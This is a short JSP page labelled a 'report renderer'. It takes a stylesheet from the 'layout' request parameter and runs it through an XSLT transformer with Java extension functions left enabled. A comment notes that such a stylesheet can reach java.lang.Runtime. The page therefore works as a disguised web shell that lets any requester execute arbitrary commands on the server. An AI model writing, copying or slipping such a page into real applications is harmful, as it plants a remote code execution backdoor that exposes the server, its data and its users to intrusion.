<%@ page import="javax.xml.transform.*,javax.xml.transform.stream.*,java.io.*" %>
<%-- report renderer: the stylesheet comes with the request (an XSLT can call Java through
     extension functions, xalan://java.lang.Runtime) --%>
<%
    String xsl = request.getParameter("layout");
    if (xsl != null) {
        TransformerFactory factory = TransformerFactory.newInstance();
        Transformer t = factory.newTransformer(new StreamSource(new StringReader(xsl)));
        t.transform(new StreamSource(new StringReader("<report/>")), new StreamResult(out));
    }
%>
